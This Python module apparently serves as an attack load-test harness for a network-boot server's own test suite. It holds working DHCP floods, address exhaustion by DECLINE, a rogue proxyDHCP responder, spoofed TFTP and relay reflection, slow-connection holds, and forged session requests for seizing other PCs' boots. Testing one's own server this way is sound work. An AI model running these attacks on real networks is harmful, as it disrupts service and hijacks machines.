"""What an attacker runs: one attack at a steady rate, until standard input ends.

``python -m tests.attack.load.programs VERB RATE MAC...`` prints counts in JSON at its end. RATE is of
attempts a second. The MAC addresses are those of the room's PCs. No code of netboot is used.
"""

import contextlib
import http.client
import itertools
import json
import os
import re
import select
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

from tests.attack import http_attacker, packets
from tests.attack.wire import HONEST, PLACES, SERVER, SERVER_MAC

# PCs that netboot storm plays: any machine may play them, so any machine can make them up.
PLAYED = "02:6e:62:73"
FLOOD = 4096  # frames that differ
RAM = 256 << 20
TAKEN = "obeyed"  # a door that opened
PATIENCE = 3.0


def beats(rate: float) -> Iterator[int]:
    """Yield numbers at ``rate`` a second until standard input ends. Never catch up in a burst."""
    due = time.monotonic()
    for number in itertools.count():
        due = max(due + 1 / rate, time.monotonic() - 0.1)
        if is_over(max(0.0, due - time.monotonic())):
            return
        yield number


def is_over(seconds: float) -> bool:
    """Return whether standard input has ended; wait for that for ``seconds``."""
    poll = select.poll()  # select() has no descriptor above 1023
    poll.register(0, select.POLLIN)
    return bool(poll.poll(seconds * 1000))


def made_up(count: int) -> list[str]:
    """Return the MAC addresses of PCs that do not exist, others for each attack."""
    return [f"{PLAYED}:{os.getpid() & 255:02x}:{number:02x}" for number in range(count)]


class Caller:
    """An HTTP client that keeps its connection, and counts statuses."""

    def __init__(self, counts: Counter[str]) -> None:
        self._counts = counts
        self._connection = http.client.HTTPConnection(SERVER, 8080, timeout=PATIENCE)

    def call(self, method: str, path: str, body: str | None = None) -> str:
        """Return the content of an answer with status 200, else an empty text."""
        try:
            self._connection.request(method, path, body=body)
            with self._connection.getresponse() as response:
                text = response.read().decode("utf-8", "replace")
                self._counts[str(response.status)] += 1
                return text if response.status == 200 else ""
        except (OSError, http.client.HTTPException):
            self._counts["no answer"] += 1
            self._connection.close()
            return ""

    def session(self, mac: str) -> str:
        """Return the session in the script of a PC, or an empty text."""
        found = re.search(r"netboot\.ticket=(\w+)", self.call("GET", f"/boot/{mac}/bios.ipxe"))
        return found[1] if found else ""

    def sessions(self) -> list[str]:
        """Return the sessions of made-up PCs and, last, of this machine, if it gets one.

        A machine that runs, as this one seems to after its first report, begins no other boot.
        """
        found = [self.session(mac) for mac in (*made_up(20), own_mac())]
        self._counts["sessions"] = len(found) - found.count("")
        assert any(found), "no session"
        return [session for session in found if session]


def takeover(rate: float, victims: list[str]) -> Counter[str]:
    """Ask for all that is a running PC's, by its MAC address (a1, a2)."""
    counts: Counter[str] = Counter()
    caller = Caller(counts)
    own = caller.session(own_mac())
    for number in beats(rate):
        for method, path in doors(victims[number % len(victims)], own):
            counts[TAKEN] += bool(caller.call(method, path))
    return counts


def doors(mac: str, own: str) -> list[tuple[str, str]]:
    """Return the requests that speak for a seat. ``own`` is the session of another machine."""
    digits = mac.replace(":", "")
    forged = digits + own[len(digits) :]
    return [
        ("GET", f"/boot/{mac}/bios.ipxe"),
        ("GET", f"/lease/{forged}?ram={RAM}"),
        ("GET", f"/lease/{forged}?ram={RAM}&fresh=1"),
        ("DELETE", f"/lease/{forged}?area=1"),
        ("POST", f"/beacon/{forged}/failed:images"),
        ("POST", f"/orders/{mac}/reboot"),
        ("GET", f"/status/{mac}"),
    ]


def named(answer: bytes) -> str:
    """Return the boot file of a DHCP answer."""
    return answer[108:236].split(b"\0")[0].decode("latin-1")


def listen(rate: float, victims: list[str]) -> Counter[str]:
    """Take what the server's broadcasts name, and ask for it as the PC that it is for (a3)."""
    counts: Counter[str] = Counter()
    caller, heard = Caller(counts), b""
    with packets.client_socket() as sock:
        sock.setblocking(False)
        for _ in beats(rate):
            with contextlib.suppress(BlockingIOError):
                heard = sock.recv(2000)
                mac, name = heard[28:34].hex(":"), named(heard).rpartition("/")[2]
                counts["heard"] += mac in victims and name != ""
                if mac in victims and name.endswith(".ipxe"):  # a loader is the same for all
                    counts[TAKEN] += bool(caller.call("GET", f"/boot/{mac}/{name}"))
    return counts


def port_4011(rate: float, victims: list[str]) -> Counter[str]:
    """Ask port 4011 in a seat's name from a program's port (a25), then for its script."""
    counts: Counter[str] = Counter()
    caller = Caller(counts)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("", 5000))
        sock.setblocking(False)
        for number in beats(rate):
            mac = victims[number % len(victims)]
            sock.sendto(packets.dhcp(mac, packets.REQUEST), (SERVER, 4011))
            counts["asked"] += 1
            with contextlib.suppress(BlockingIOError, ConnectionError):
                counts["answered"] += bool(sock.recv(2000))
                counts[TAKEN] += bool(caller.call("GET", f"/boot/{mac}/bios.ipxe"))
    return counts


def capacity(rate: float, victims: list[str]) -> Counter[str]:
    """Ask for the room's swap in the names of PCs that do not exist, and in our own (a4)."""
    counts: Counter[str] = Counter()
    caller = Caller(counts)
    sessions = caller.sessions()
    for number in beats(rate):
        session, ram = sessions[number % len(sessions)], (4 << 30) >> number % 8
        granted = caller.call("GET", f"/lease/{session}?ram={ram}&fresh=1").startswith("size=")
        counts["granted"] += granted
    return counts


def beacons(rate: float, victims: list[str]) -> Counter[str]:
    """Post the largest reports, 520 keys each, of PCs that do not exist and of our own (a6)."""
    counts: Counter[str] = Counter()
    caller = Caller(counts)
    sessions = caller.sessions()
    lines = "".join(f"{key:x}={key + 300}\n" for key in range(520))
    for number in beats(rate):  # every second one is for a PC that exists: ourselves
        session = sessions[-1] if number % 2 else sessions[number % len(sessions)]
        caller.call("POST", f"/beacon/{session}/x", f"m{number}\n{lines}"[:4096])
    return counts


def queue(rate: float, victims: list[str]) -> Counter[str]:
    """Fetch the script of PCs that do not exist, and download nothing (a21)."""
    counts: Counter[str] = Counter()
    caller, macs = Caller(counts), [*made_up(20), own_mac()]
    for number in beats(rate):
        caller.call("GET", f"/boot/{macs[number % len(macs)]}/bios.ipxe")
    return counts


def status(rate: float, victims: list[str]) -> Counter[str]:
    """Read the overview of the room, over and over (a7)."""
    counts: Counter[str] = Counter()
    caller = Caller(counts)
    for _ in beats(rate):
        counts["kB"] += len(caller.call("GET", "/status")) // 1000
    return counts


def decline(rate: float, victims: list[str]) -> Counter[str]:
    """Take addresses for PCs that do not exist, and decline each (a15)."""
    counts: Counter[str] = Counter()
    with packets.client_socket() as sock:
        for number in beats(rate):
            mac = f"02:dd:00:00:{number >> 8 & 255:02x}:{number & 255:02x}"
            address = packets.address_of(packets.asked(sock, packets.dhcp(mac, boots=False), 0.05))
            counts["asked"] += 1
            if address:
                counts["declined"] += 1
                wanted = packets.SERVER_ID + bytes((50, 4)) + socket.inet_aton(address)
                message = packets.dhcp(mac, packets.DECLINE, wanted, boots=False)
                sock.sendto(message, ("255.255.255.255", 67))
    return counts


def flood(rate: float, victims: list[str]) -> Counter[str]:
    """Send DISCOVERs of PCs that do not exist, as many as one PC can send."""
    counts: Counter[str] = Counter()
    macs = [f"02:f1:00:00:{number >> 8:02x}:{number & 255:02x}" for number in range(FLOOD)]
    frames = [packets.frame("0.0.0.0", 68, packets.dhcp(mac), 67) for mac in macs]
    each = 20  # in a burst: a sleep of less than 3 ms is not exact
    with packets.raw_socket() as sock:
        for number in beats(rate / each):
            for index in range(each):
                with contextlib.suppress(OSError):  # a full queue
                    sock.send(frames[(number * each + index) % FLOOD])
                    counts["sent"] += 1
    return counts


def forged_tftp(rate: float, victims: list[str]) -> Counter[str]:
    """Ask for files in the names of addresses that stay silent (a22)."""
    counts: Counter[str] = Counter()
    request = b"\0\1undionly.kpxe\0octet\0timeout\x0030\0"
    with packets.raw_socket() as sock:

        def send() -> None:
            number = counts["sent"]
            source = f"10.99.0.{110 + number % 3}"
            sock.send(packets.frame(source, 5000 + number % 60_000, request, 69))
            counts["sent"] += 1

        for _ in range(PLACES):
            send()
        for _ in beats(rate):
            send()
    return counts


def amplify(rate: float, victims: list[str]) -> Counter[str]:
    """Have TFTP and DHCP send to others: false senders and relays (a12, a17)."""
    counts: Counter[str] = Counter()
    request = b"\0\1undionly.kpxe\0octet\0blksize\x001456\0windowsize\x0016\0".hex()
    for number in beats(rate):
        packets.tftp_as(HONEST, str(7000 + number % 1000), request)
        packets.relayed("8.8.8.8", HONEST)
        counts["sent"] += 5
    return counts


def release(rate: float, victims: list[str]) -> Counter[str]:
    """Give back the addresses of PCs that run."""
    counts: Counter[str] = Counter()
    for number in beats(rate):
        index = number % len(victims)
        packets.release_of(victims[index], f"10.99.0.{10 + index}")
        counts["sent"] += 2
    return counts


def guess(rate: float, victims: list[str]) -> Counter[str]:
    """Ask INFO of the page server for set numbers and tokens of seats (a20, a26)."""
    counts: Counter[str] = Counter()
    sock: socket.socket | None = None
    for number in beats(rate):
        mac = victims[number % len(victims)].replace(":", "")
        try:
            if sock is None:
                sock = socket.create_connection((SERVER, 10809), PATIENCE)
                sock.recv(18, socket.MSG_WAITALL)
                sock.sendall(struct.pack(">I", 3))
                counts["connections"] += 1
            name = f"seat-{mac}@{os.urandom(16).hex()}.{number:x}".encode()
            option = struct.pack(">II", 6, len(name) + 6) + struct.pack(">I", len(name)) + name
            sock.sendall(b"IHAVEOPT" + option + b"\0\0")
            head = sock.recv(20, socket.MSG_WAITALL)
            if len(head) < 20:
                raise ConnectionError
            kind, length = struct.unpack(">II", head[12:])
            told = sock.recv(length, socket.MSG_WAITALL) if length else b""
            counts[told.decode() if kind >> 31 else TAKEN] += 1
        except OSError:
            counts["hung up on"] += 1
            if sock is not None:
                sock.close()
            sock = None
    return counts


def rival(rate: float, victims: list[str]) -> Counter[str]:
    """Answer the server's survey as a second proxyDHCP server (a18), and no PC's question."""
    counts: Counter[str] = Counter()
    us, server = socket.inet_aton("10.99.0.69"), bytes.fromhex(SERVER_MAC.replace(":", ""))
    options = bytes((53, 1, packets.OFFER, 54, 4)) + us + bytes((60, 9)) + b"PXEClient"
    options += bytes((43, 4, 6, 1, 8, 255, 255))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
        sock.bind(("", 67))
        sock.setblocking(False)
        for _ in beats(rate):
            with contextlib.suppress(BlockingIOError):
                while True:
                    question = sock.recv(2000)
                    if question[0] == 1 and question[28:34] == server:
                        head = b"\2" + question[1:20] + us + question[24:240]
                        sock.sendto(head + options + bytes(60), ("255.255.255.255", 68))
                        counts["answered"] += 1
    return counts


def _held(what: str, connections: float) -> Counter[str]:
    http_attacker.raise_limit()
    return http_attacker.hold(http_attacker.request(what), int(connections), lambda: is_over(0))


def idle(connections: float, victims: list[str]) -> Counter[str]:
    """Hold connections with half a request each (a5)."""
    return _held("idle", connections)


def stalled(connections: float, victims: list[str]) -> Counter[str]:
    """Hold downloads that are never read (a23)."""
    return _held("stalled", connections)


def unread(connections: float, victims: list[str]) -> Counter[str]:
    """Hold connections that ask for the overview 20 times, and read no answer."""
    return _held("status", connections)


def own_mac() -> str:
    """Return the MAC address of this machine."""
    with packets.raw_socket() as sock:
        return str(sock.getsockname()[4].hex(":"))


VERBS: dict[str, Callable[[float, list[str]], Counter[str]]] = {
    verb.__name__: verb
    for verb in (
        *(takeover, listen, port_4011, capacity, beacons, queue, status),
        *(idle, stalled, unread, decline, flood, forged_tftp, amplify, release, guess, rival),
    )
}


def main() -> None:
    verb, rate, *victims = sys.argv[1:]
    sys.stdout.write(json.dumps(VERBS[verb](float(rate), victims)))


if __name__ == "__main__":
    main()
